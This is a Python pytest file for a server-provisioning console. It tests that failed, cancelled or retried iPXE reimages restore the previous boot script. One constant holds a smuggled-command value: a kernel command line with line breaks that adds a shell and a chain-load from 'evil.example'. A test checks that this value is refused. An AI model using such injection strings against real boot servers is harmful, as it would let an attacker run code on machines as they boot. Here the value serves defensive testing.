"""A reimage that fails takes its boot script back; a retried one keeps the known-good record.

Against a lab of this module's own site (the ipxe provisioner, its boot server over real
HTTP, Redfish BMCs): what the node would fetch is read from the boot server itself.
"""

from __future__ import annotations

import asyncio
import os

import httpx
import pytest

from console.errors import ActionError
from console.lab.machine import parse_ipxe
from console.ops.actions import plan_reimage
from console.ops.journal import Journal, read_entries
from console.ops.locks import Locks
from console.ops.options import RunOptions
from console.ops.reimage import PhaseTimeouts
from console.ops.runner import Runner
from console.provision import Assignment, open_provisioner
from tests.support import reimage_phases

SITE = """
site: t-rollback
defaults:
  bmc: {protocol: redfish, scheme: http, username: admin, password: "lab:bmc"}
  image: flatcar@4081.2.1
images:
  - {name: flatcar, version: 4081.2.1, kernel: "http://127.0.0.1:8069/images/flatcar/4081.2.1/vmlinuz",
     initrd: "http://127.0.0.1:8069/images/flatcar/4081.2.1/initrd"}
  - {name: flatcar, version: 4152.2.0, kernel: "http://127.0.0.1:8069/images/flatcar/4152.2.0/vmlinuz",
     initrd: "http://127.0.0.1:8069/images/flatcar/4152.2.0/initrd"}
provisioner: {kind: ipxe, url: "http://127.0.0.1:8069"}
ssh: {username: core, password: "lab:ssh", known_hosts: "lab:known_hosts"}
racks:
  - name: r01
    nodes:
      - name: rb-n[01-04]
        mac: "52:54:00:0f:00:[01-04]"
        host: 127.2.15.[1-4]
        bmc: {address: "127.1.15.[1-4]"}
"""
INJECTED = "quiet\nshell\nchain http://evil.example/pwn.ipxe"
#: a MAC no lab machine has: the console assigns it, the node boots with its real one and never fetches it
LOST_MAC = "52:54:00:0f:00:fe"
NEVER_FETCHED = PhaseTimeouts(assigned=30, rebooting=1.5, installing=30, verifying=30, poll=0.05)


class Ctx:
    """What the action engine needs of a site context."""

    def __init__(self, site, secrets) -> None:
        self.site, self.secrets = site, secrets


def with_node(site, name: str, **update):
    """The site with node ``name`` changed (the inventory says something the machine does not)."""
    node = site.node(name).model_copy(update=update)
    return site.model_copy(update={"nodes": tuple(node if n.name == name else n for n in site.nodes)})


def boot_files(site) -> dict[str, str]:
    root = site.provisioner.root
    return {n: open(os.path.join(root, n), encoding="utf-8").read() for n in sorted(os.listdir(root))}


async def served(site, mac: str) -> tuple[int, str]:
    """What the lab's boot server hands a node with ``mac`` (status, body), over HTTP."""
    async with httpx.AsyncClient() as http:
        got = await http.get(f"{site.provisioner.url}/boot/{mac.replace(':', '-')}.ipxe")
    return got.status_code, got.text


async def test_an_injected_command_line_is_refused_before_anything_is_written(site_lab, site_ctx):
    site, secrets = site_ctx
    bad = site.image("flatcar@4152.2.0").model_copy(update={"cmdline": INJECTED})
    hostile = site.model_copy(update={"images": tuple(bad if i.ref == bad.ref else i for i in site.images)})
    before, boots = boot_files(site), site_lab.machine("rb-n01")["boots"]
    with pytest.raises(ActionError, match=r"^assign: image flatcar@4152.2.0: cmdline 'quiet\\nshell.* holds a "
                                          r"line break .* refused") as err:
        await reimage_phases(hostile, secrets, "rb-n01", "flatcar@4152.2.0")
    assert "\n" not in str(err.value)
    assert boot_files(site) == before  # nothing written, nothing left behind
    assert site_lab.machine("rb-n01")["boots"] == boots  # never rebooted
    status, body = await served(site, "52:54:00:0f:00:01")
    assert status == 404 and "evil.example" not in body


async def test_a_node_that_never_fetches_its_script_gets_the_previous_one_back(site_lab, site_ctx, tmp_path):
    site, secrets = site_ctx
    lost = with_node(site, "rb-n02", mac=LOST_MAC)
    prov = open_provisioner(site, secrets)
    try:  # what was there before: a finished reimage to 4081.2.1
        await prov.assign(lost.node("rb-n02"), site.image("flatcar@4081.2.1"))
        await prov.confirm(lost.node("rb-n02"))
    finally:
        await prov.close()
    known_good = boot_files(site)
    journal = Journal("t-rollback", operator="tester", path=tmp_path / "journal.jsonl")
    locks = Locks("t-rollback", directory=tmp_path / "locks", owner="tester")
    plan = await plan_reimage(Ctx(lost, secrets), ["rb-n02"], "flatcar@4152.2.0", locks=locks)
    options = RunOptions(poll_interval=0.05, power_timeout=15.0, request_timeout=3.0, reimage_timeouts=NEVER_FETCHED)
    result = await Runner(Ctx(lost, secrets), plan, options, journal=journal, locks=locks).run()
    (node,) = result.nodes
    assert not result.ok and node.error.startswith("rebooting: timed out after 1.5 s")
    assert "rolled back: the previous assignment is restored (flatcar@4081.2.1)" in node.error
    failed = [e for e in read_entries("t-rollback", path=journal.path, node="rb-n02", limit=0)
              if e["result"] == "failed"]
    assert failed and all("rolled back: the previous assignment is restored" in (e.get("error") or e.get("detail"))
                          for e in failed), failed
    # the script is the one before, byte for byte: no .previous, no temporary file
    assert boot_files(site) == {k: v for k, v in known_good.items() if not k.endswith(".previous")}
    status, body = await served(site, LOST_MAC)
    assert status == 200 and parse_ipxe(body)["image_version"] == "4081.2.1"


async def test_a_first_assignment_never_fetched_is_removed(site_lab, site_ctx):
    site, secrets = site_ctx
    lost = with_node(site, "rb-n02", mac="52:54:00:0f:00:fd")
    with pytest.raises(ActionError, match=r"^rebooting: timed out .*; rolled back: the new boot script was "
                                          r"removed \(the node had none\)"):
        await reimage_phases(lost, secrets, "rb-n02", "flatcar@4152.2.0", NEVER_FETCHED)
    assert not [n for n in os.listdir(site.provisioner.root) if n.startswith("52-54-00-0f-00-fd")]
    assert (await served(site, "52:54:00:0f:00:fd"))[0] == 404


async def test_a_cancelled_reimage_takes_its_script_back(site_lab, site_ctx):
    site, secrets = site_ctx
    lost = with_node(site, "rb-n02", mac="52:54:00:0f:00:fc")
    slow = PhaseTimeouts(assigned=30, rebooting=60, installing=30, verifying=30, poll=0.05)
    task: asyncio.Task | None = None

    def on_phase(name: str) -> None:
        if name == "rebooting":  # the operator aborts while the node is rebooting
            asyncio.get_running_loop().call_later(0.2, task.cancel)

    task = asyncio.ensure_future(reimage_phases(lost, secrets, "rb-n02", "flatcar@4152.2.0", slow, on_phase))
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not [n for n in os.listdir(site.provisioner.root) if n.startswith("52-54-00-0f-00-fc")]


async def test_a_retried_reimage_keeps_the_original_previous(site_lab, site_ctx):
    site, secrets = site_ctx
    node = site.node("rb-n03")
    await reimage_phases(site, secrets, "rb-n03", "flatcar@4152.2.0")  # known-good
    # attempt 1 gets past the boot, then fails: the inventory's host address is wrong
    gone = with_node(site, "rb-n03", host="127.2.15.250")
    short = PhaseTimeouts(assigned=30, rebooting=30, installing=1.5, verifying=30, poll=0.05, ssh_timeout=1)
    with pytest.raises(ActionError, match=r"^installing: timed out"):
        await reimage_phases(gone, secrets, "rb-n03", "flatcar@4081.2.1", short)
    # attempt 2 (the retry) finishes
    await reimage_phases(site, secrets, "rb-n03", "flatcar@4081.2.1")
    prov = open_provisioner(site, secrets)
    try:
        assert (await prov.assignment(node)).image == "flatcar@4081.2.1"
        # the record is what was in place before the first attempt, not the interrupted one
        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
        assert (await prov.rollback(node)).image == "flatcar@4152.2.0"
        assert await prov.previous(node) is None
    finally:
        await prov.close()
    status, body = await served(site, node.mac)
    assert status == 200 and parse_ipxe(body)["image_version"] == "4152.2.0"


async def test_a_finished_reimage_is_the_next_ones_rollback_record(site_lab, site_ctx):
    site, secrets = site_ctx
    node = site.node("rb-n04")
    await reimage_phases(site, secrets, "rb-n04", "flatcar@4152.2.0")
    await reimage_phases(site, secrets, "rb-n04", "flatcar@4081.2.1")
    prov = open_provisioner(site, secrets)
    try:
        assert (await prov.previous(node)).image == "flatcar@4152.2.0"
        assert await prov.assignment(node) == Assignment("flatcar@4081.2.1", os.path.join(
            site.provisioner.root, "52-54-00-0f-00-04.ipxe"))
    finally:
        await prov.close()
